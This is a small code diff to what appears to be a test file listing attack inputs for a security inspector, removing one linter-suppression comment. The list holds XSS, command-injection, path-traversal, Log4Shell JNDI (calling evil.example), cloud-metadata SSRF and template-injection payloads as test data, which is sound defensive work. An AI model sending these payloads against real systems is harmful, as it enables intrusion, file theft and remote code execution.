@@ -20,7 +20,6 @@ const ATTACKS: InspectionInput[] = [
   '<script>alert(document.cookie)</script>',
   '; cat /etc/passwd',
   '../../../../etc/passwd',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload is the literal `${jndi:…}`
   '${jndi:ldap://evil.example/a}',
   'http://169.254.169.254/latest/meta-data/',
   '{{7*7}}',
